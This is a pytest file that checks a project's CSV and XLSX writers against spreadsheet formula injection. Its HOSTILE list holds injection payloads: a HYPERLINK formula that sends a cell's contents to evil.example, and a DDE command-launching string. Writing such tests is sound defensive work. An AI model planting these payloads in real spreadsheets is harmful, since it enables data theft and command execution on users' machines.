"""No CSV or XLSX cell a spreadsheet would run as a formula (issue 14, OWASP CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from dcoflow.connectors.content.vectr import VectrTestCase, read_vectr_csv, write_vectr_csv
from dcoflow.models.cells import FORMULA_TRIGGERS, safe_cell
from dcoflow.models.marking import MarkingFacts
from dcoflow.models.stix.markings import Tlp
from dcoflow.tasks.assess.outputs import write_csv, write_xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
           "=cmd|' /C calc'!A0"]
MARKING = MarkingFacts(Tlp.AMBER)


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


@pytest.mark.parametrize("text", HOSTILE)
def test_safe_cell(text: str) -> None:
    assert not str(safe_cell(text)).startswith(FORMULA_TRIGGERS)
    assert safe_cell(5) == 5 and safe_cell(-5) == -5 and safe_cell("T1059") == "T1059"


def test_vectr_csv_neutralises_and_round_trips(tmp_path: Path) -> None:
    cases = [VectrTestCase(assessment=h, campaign="c", name=f"{h} case", technique_id="T1059.001", tactic="execution",
                           method="m", status="Completed", tool_outcomes={}, notes=h, command=h, operator=h)
             for h in HOSTILE]
    path = tmp_path / "vectr.csv"
    write_vectr_csv(path, cases, marking=MARKING.banner)
    assert not [c for c in _cells(path) if c.startswith(FORMULA_TRIGGERS)]
    back, report = read_vectr_csv(path)
    assert report.skipped == 0
    # the reader strips surrounding whitespace from every column but the command
    assert [(c.assessment, c.command, c.notes, c.operator) for c in back] == [
        (h.strip(), h, h.strip(), h.strip()) for h in HOSTILE]


def test_coverage_csv_and_xlsx_hold_no_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"technique": ["T1059"] * len(HOSTILE), "name": HOSTILE,
                          "detection": [1.0] * len(HOSTILE), "visibility": [2.0] * len(HOSTILE),
                          "score": [-1] * len(HOSTILE)})
    csv_path = write_csv(frame, tmp_path / "coverage.csv", MARKING)
    assert not [c for c in _cells(csv_path) if c.startswith(FORMULA_TRIGGERS) and c != "-1"]
    xlsx = write_xlsx(frame, tmp_path / "coverage.xlsx", MARKING)
    sheet = openpyxl.load_workbook(xlsx)["coverage"]
    kinds = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in kinds
    texts = {cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert all(any(h.strip() in t for t in texts) for h in HOSTILE)  # kept as text
